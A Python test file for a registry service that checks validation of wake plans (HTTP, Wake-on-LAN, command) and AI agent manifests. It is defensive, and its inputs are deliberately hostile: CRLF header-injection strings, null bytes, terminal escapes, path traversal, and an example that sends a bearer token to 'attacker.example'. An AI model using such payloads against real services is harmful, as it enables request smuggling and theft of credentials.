"""Wake plans and agents: every wrong thing by its path, and nothing secret in what is said about it."""

import math
from collections.abc import Callable

import pytest
from google.protobuf.duration_pb2 import Duration
from kit.failures import fails
from kit.messages import changed
from kit.refusals import refused

from registry_svc.mesh.records import manifest_bytes
from weft.api.common.v1 import agent_behaviour_pb2
from weft.api.registry.v1 import agent_pb2, model_pb2, wake_pb2
from weft.documents.kinds.agent import check_agent
from weft.documents.kinds.model import check_manifest
from weft.wake.recipes import DEFAULT_MAX_WAIT_SECONDS, max_wait_seconds

SECRET = "hunter2"
Wake = wake_pb2.Wake
Recipe = wake_pb2.WakeRecipe


def valid_agent(manifest: agent_pb2.AgentManifest, field: str) -> agent_pb2.AgentManifest:
    check_agent(manifest, field)
    return manifest


def valid_model(manifest: model_pb2.ModelManifest, field: str, *, published: bool) -> model_pb2.ModelManifest:
    check_manifest(manifest, field, published=published)
    return manifest


def http(url: str = "http://10.0.0.5/wake", method: str = "", **headers: str) -> Wake:
    return Wake(by_mesh=Recipe(http=wake_pb2.HttpAction(url=url, method=method, headers=headers)))


def lan(mac: str = "02:00:00:00:00:01", broadcast: str = "", port: int = 0) -> Wake:
    action = wake_pb2.WakeOnLanAction(mac_address=mac, broadcast_address=broadcast, port=port)
    return Wake(by_mesh=Recipe(wake_on_lan=action))


def command(*argv: str) -> Wake:
    return Wake(by_mesh=Recipe(command=wake_pb2.CommandAction(argv=argv)))


def model(wake: Wake) -> model_pb2.ModelManifest:
    return model_pb2.ModelManifest(name="m1", operations=[model_pb2.MODEL_OPERATION_CHAT], wake=wake)


@pytest.mark.parametrize(
    "wake",
    [
        Wake(by_runner=True),
        Wake(by_runner=True, max_wait=Duration(seconds=1)),
        http("https://user:pw@host.example:8443/x?y=z", "DELETE", Authorization="${WEFT_WAKE_KEY}"),
        http("http://[::1]:9090/wake"),
        lan("02-AB-00-00-00-01", "10.0.0.255", 65_535),
        command("/usr/bin/wake", "", "--host=x\ny"),
    ],
)
def test_valid_plan_round_trips(wake: Wake) -> None:
    manifest = valid_model(model(wake), "m", published=False)
    again = valid_model(changed(manifest), "m", published=False)
    assert manifest == again
    assert manifest.HasField("wake")
    assert max_wait_seconds(manifest.wake) in {1.0, DEFAULT_MAX_WAIT_SECONDS}


@pytest.mark.parametrize(
    ("wake", "field"),
    [
        (Wake(), "m.wake"),
        (Wake(by_runner=True, by_mesh=Recipe()), "m.wake.by_mesh"),
        (Wake(by_runner=True, max_wait=Duration()), "m.wake.max_wait"),
        (Wake(by_runner=True, max_wait=Duration(seconds=3601)), "m.wake.max_wait"),
        (Wake(by_runner=True, max_wait=Duration(seconds=-5)), "m.wake.max_wait"),
        (Wake(by_runner=True, max_wait=Duration(seconds=2**62)), "m.wake.max_wait"),
        (http(f"ftp://{SECRET}/x"), "m.wake.by_mesh.http.url"),
        (http(f"http:///{SECRET}"), "m.wake.by_mesh.http.url"),
        (http(f"http://h/{SECRET}\r\nX: y"), "m.wake.by_mesh.http.url"),
        (http(f"http://h:99999/{SECRET}"), "m.wake.by_mesh.http.url"),
        (http(f"http://[::1/{SECRET}"), "m.wake.by_mesh.http.url"),
        (http("http://h/" + SECRET * 500), "m.wake.by_mesh.http.url"),
        (http(""), "m.wake.by_mesh.http.url"),
        (http(method="TRACE"), "m.wake.by_mesh.http.method"),
        (http(method="post"), "m.wake.by_mesh.http.method"),
        (http(**{"X-A": f"{SECRET}\r\nX-B: 1"}), "m.wake.by_mesh.http.headers[X-A]"),
        (http(**{"X-A": SECRET * 1000}), "m.wake.by_mesh.http.headers[X-A]"),
        (http(**{"X A": "1"}), "m.wake.by_mesh.http.headers"),
        (http(**{"": "1"}), "m.wake.by_mesh.http.headers"),
        (http(**{"x" * 129: "1"}), "m.wake.by_mesh.http.headers"),
        (http(**{f"x{number}": "1" for number in range(33)}), "m.wake.by_mesh.http.headers"),
        (command(), "m.wake.by_mesh.command.argv"),
        (command(""), "m.wake.by_mesh.command.argv"),
        (command(*["x"] * 65), "m.wake.by_mesh.command.argv"),
        (command("x", SECRET + "\0"), "m.wake.by_mesh.command.argv[1]"),
        (command(SECRET * 1000), "m.wake.by_mesh.command.argv[0]"),
        (lan(""), "m.wake.by_mesh.wake_on_lan.mac_address"),
        (lan("02:00:00:00:00"), "m.wake.by_mesh.wake_on_lan.mac_address"),
        (lan("02:00:00:00:00:0g"), "m.wake.by_mesh.wake_on_lan.mac_address"),
        (lan("02:00:00:00:00:01\n"), "m.wake.by_mesh.wake_on_lan.mac_address"),
        (lan(broadcast="::1"), "m.wake.by_mesh.wake_on_lan.broadcast_address"),
        (lan(broadcast="256.0.0.1"), "m.wake.by_mesh.wake_on_lan.broadcast_address"),
        (lan(port=-1), "m.wake.by_mesh.wake_on_lan.port"),
        (lan(port=65_536), "m.wake.by_mesh.wake_on_lan.port"),
    ],
)
def test_invalid_plan_is_refused_with_its_path_and_not_echoed(wake: Wake, field: str) -> None:
    with fails(field=field) as refusal:
        valid_model(model(wake), "m", published=False)
    assert SECRET not in str(refusal.value)


def test_runner_may_publish_wake_packets_and_requests_but_no_programs() -> None:
    for wake in (http(), lan(), Wake(by_runner=True)):
        assert valid_model(model(wake), "m", published=True).HasField("wake")
    with refused(field="m.wake.by_mesh.command"):
        valid_model(model(command("/bin/true")), "m", published=True)


def test_runner_may_not_direct_router_secrets_to_an_address() -> None:
    wake = http("http://attacker.example/", **{"X-Plain": "as it is", "X-Key": "Bearer ${WEFT_WAKE_TOKEN}"})
    assert valid_model(model(wake), "m", published=False).HasField("wake")
    with fails(field="m.wake.by_mesh.http.headers") as refusal:
        valid_model(model(wake), "m", published=True)
    assert "WEFT_WAKE_TOKEN" not in str(refusal.value)


def an_agent() -> agent_pb2.AgentManifest:
    manifest = agent_pb2.AgentManifest(
        name="a1", model="m1", description="for\npeople", system_prompt="Be terse.\nAlways."
    )
    params = manifest.default_params
    params.temperature, params.max_tokens, params.seed = 0.25, 100, 2**40
    params.stop.extend(["END"])
    params.logit_bias.update({5: -1.5, 3: 2.0})
    behaviour = manifest.behaviour
    behaviour.tools.extend(["files.read", "search"])
    behaviour.signals.extend(["NEEDS_EXTERNAL_INFO", "A"])
    behaviour.platform_prompt, behaviour.max_tool_iterations = True, 0
    behaviour.stop_on_decision_request, behaviour.parse_text_tool_calls = False, False
    behaviour.repetition_policy = agent_behaviour_pb2.REPETITION_POLICY_KILL
    return manifest


def test_valid_agent_round_trips() -> None:
    assert valid_agent(an_agent(), "a") == an_agent()
    bare = valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
    assert not bare.HasField("default_params")
    assert not bare.HasField("behaviour")


@pytest.mark.parametrize(
    "behaviour",
    [
        agent_behaviour_pb2.AgentBehaviour(),
        agent_behaviour_pb2.AgentBehaviour(stop_on_decision_request=True, parse_text_tool_calls=True),
    ],
)
def test_default_agent_behavior_is_dropped(behaviour: agent_behaviour_pb2.AgentBehaviour) -> None:
    asking = agent_pb2.AgentManifest(name="a", pool="p", behaviour=behaviour)
    assert valid_agent(asking, "a") == valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")


def test_every_agent_behavior_field_counts_as_a_difference() -> None:
    for descriptor, _ in an_agent().behaviour.ListFields():
        less = an_agent()
        less.behaviour.ClearField(descriptor.name)  # type: ignore[arg-type]  # it is one of its fields
        assert valid_agent(less, "a") != valid_agent(an_agent(), "a"), descriptor.name
        assert valid_agent(changed(less), "a") == less
    assert len(an_agent().behaviour.ListFields()) == len(agent_behaviour_pb2.AgentBehaviour.DESCRIPTOR.fields)


def test_agent_behavior_counts_towards_the_mesh_size() -> None:
    asking = valid_agent(an_agent(), "a")
    less = manifest_bytes(changed(asking, behaviour=None))
    assert manifest_bytes(asking) - less > len("files.readsearchNEEDS_EXTERNAL_INFOA")


def _agent(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None]:
    return lambda manifest: setattr(manifest, name, value)


def _behaviour(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None]:
    return lambda manifest: setattr(manifest.behaviour, name, value)


def _more(name: str, *names: str) -> Callable[[agent_pb2.AgentManifest], None]:
    return lambda manifest: getattr(manifest.behaviour, name).extend(names)


def _param(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None]:
    return lambda manifest: setattr(manifest.default_params, name, value)


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (_agent("name", "a/b"), "a.name"),
        (_agent("name", "x" * 10_000), "a.name"),
        (_agent("model", ""), "a.model"),
        (_agent("pool", "../p"), "a.pool"),
        (lambda manifest: manifest.ClearField("model"), "a.target"),
        (_agent("description", "x" * 1_025), "a.description"),
        (_agent("description", "\x1b[2J"), "a.description"),
        (_agent("system_prompt", "x" * 65_537), "a.system_prompt"),
        (_agent("system_prompt", "a\0b"), "a.system_prompt"),
        (_agent("system_prompt", "a\x9bb"), "a.system_prompt"),
        (_param("temperature", math.nan), "a.default_params.temperature"),
        (_param("temperature", math.inf), "a.default_params.temperature"),
        (_param("temperature", 2.1), "a.default_params.temperature"),
        (_param("top_p", -0.1), "a.default_params.top_p"),
        (_param("min_p", 1.1), "a.default_params.min_p"),
        (_param("max_tokens", 0), "a.default_params.max_tokens"),
        (_param("top_k", -1), "a.default_params.top_k"),
        (_param("presence_penalty", 2.5), "a.default_params.presence_penalty"),
        (_param("frequency_penalty", -2.5), "a.default_params.frequency_penalty"),
        (_param("repeat_penalty", -math.inf), "a.default_params.repeat_penalty"),
        (lambda manifest: manifest.default_params.stop.append(""), "a.default_params.stop[1]"),
        (lambda manifest: manifest.default_params.stop.extend(["x"] * 16), "a.default_params.stop"),
        (lambda manifest: manifest.default_params.logit_bias.update({7: 101.0}), "a.default_params.logit_bias[7]"),
        (lambda manifest: manifest.default_params.logit_bias.update({7: math.nan}), "a.default_params.logit_bias[7]"),
        (
            lambda manifest: manifest.default_params.logit_bias.update(dict.fromkeys(range(301), 1.0)),
            "a.default_params.logit_bias",
        ),
        (_more("tools", "a/b"), "a.behaviour.tools[2]"),
        (_more("tools", ""), "a.behaviour.tools[2]"),
        (_more("tools", "x" * 129), "a.behaviour.tools[2]"),
        (_more("tools", "search"), "a.behaviour.tools[2]"),
        (_more("tools", *(f"t{n}" for n in range(63))), "a.behaviour.tools"),
        (_more("signals", "lower_case"), "a.behaviour.signals[2]"),
        (_more("signals", "A\n"), "a.behaviour.signals[2]"),
        (_more("signals", "_A"), "a.behaviour.signals[2]"),
        (_more("signals", "A" * 65), "a.behaviour.signals[2]"),
        (_more("signals", "A"), "a.behaviour.signals[2]"),
        (_more("signals", *(f"S{n}" for n in range(63))), "a.behaviour.signals"),
        (_behaviour("max_tool_iterations", -1), "a.behaviour.max_tool_iterations"),
        (_behaviour("max_tool_iterations", 65), "a.behaviour.max_tool_iterations"),
        (_behaviour("repetition_policy", 99), "a.behaviour.repetition_policy"),
    ],
)
def test_agent_with_an_invalid_value_is_refused_with_its_path(
    change: Callable[[agent_pb2.AgentManifest], None], field: str
) -> None:
    manifest = an_agent()
    change(manifest)
    with refused(field=field):
        valid_agent(manifest, "a")


def test_skills_are_deduplicated_sorted_and_returned() -> None:
    given = [model_pb2.MODEL_SKILL_TOOLS, model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
    message = model(Wake(by_runner=True))
    message.skills.extend(given)
    manifest = valid_model(message, "m", published=True)
    assert list(manifest.skills) == [model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
    assert valid_model(model(Wake(by_runner=True)), "m", published=True).skills == []


@pytest.mark.parametrize("number", [0, 5, -1])
def test_unknown_skill_is_refused(number: int) -> None:
    message = model(Wake(by_runner=True))
    message.skills.append(model_pb2.ModelSkill.ValueType(number))
    with refused(field="models[0].skills"):
        valid_model(message, "models[0]", published=True)
